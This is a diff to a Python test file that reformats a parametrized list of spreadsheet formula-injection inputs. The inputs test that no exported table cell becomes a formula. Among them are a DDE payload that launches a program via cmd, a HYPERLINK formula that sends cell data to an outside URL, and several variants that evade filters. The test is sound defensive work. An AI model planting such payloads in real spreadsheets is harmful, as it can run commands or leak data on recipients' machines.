@@ -147,8 +147,8 @@ def test_a_table_names_what_there_are_several_of(client, brief):
 @pytest.mark.parametrize(
     "title",
     [
-        "=HYPERLINK(\"https://example.org/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n@x",
-        "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "\u200b=1+1", "\u00a0=1+1", "|x", "%0A=1",
+        "=HYPERLINK(\"https://example.org/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
+        "\n@x", "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0", "\u200b=1+1", "\u00a0=1+1", "|x", "%0A=1",
     ],
 )  # fmt: skip
 def test_no_cell_of_a_table_is_a_formula(client, title):
